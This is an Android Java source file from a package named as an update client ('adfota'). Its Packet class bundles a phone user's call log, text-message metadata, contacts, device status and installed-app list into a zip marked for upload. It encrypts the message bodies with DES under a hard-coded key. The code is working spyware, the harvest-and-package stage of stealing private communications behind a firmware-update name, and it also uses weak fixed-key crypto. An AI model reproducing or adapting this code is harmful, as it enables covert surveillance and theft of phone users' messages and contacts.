package com.adfota.client;

import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** The upload: a zip of JSON files; the texts' bodies apart from the rest, encrypted with DES. */
final class Packet {
    // Eight bytes, as DES wants; an invented key.
    private static final byte[] KEY = "adf0tA!7".getBytes(StandardCharsets.US_ASCII);

    private Packet() {}

    static byte[] zip(Collector owner) throws IOException, JSONException {
        JSONArray texts = owner.texts();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            JSONObject told = new JSONObject().put("calls", owner.calls());
            told.put("sms", without(texts, "body")).put("contacts", owner.contacts());
            add(zip, "DcTellMessage.json", told);
            add(zip, "dc_msg_key.json", new JSONObject().put("msg", encrypted(texts)));
            add(zip, "DcMobileStatus.json", owner.status());
            add(zip, "DcApp.json", new JSONObject().put("apps", owner.apps()));
        }
        return bytes.toByteArray();
    }

    private static void add(ZipOutputStream zip, String name, JSONObject content)
            throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.toString().getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    private static JSONArray without(JSONArray rows, String key) throws JSONException {
        JSONArray result = new JSONArray();
        for (int i = 0; i < rows.length(); i++) {
            JSONObject row = new JSONObject(rows.getJSONObject(i).toString());
            row.remove(key);
            result.put(row);
        }
        return result;
    }

    private static JSONArray encrypted(JSONArray texts) throws JSONException {
        JSONArray result = new JSONArray();
        for (int i = 0; i < texts.length(); i++) {
            JSONObject row = texts.getJSONObject(i);
            JSONObject one = new JSONObject().put("id", row.opt("_id"));
            result.put(one.put("body", des(row.optString("body"))));
        }
        return result;
    }

    private static String des(String text) {
        try {
            Cipher cipher = Cipher.getInstance("DES/ECB/PKCS5Padding");
            cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(KEY, "DES"));
            byte[] secret = cipher.doFinal(text.getBytes(StandardCharsets.UTF_8));
            return Base64.encodeToString(secret, Base64.NO_WRAP);
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }
}
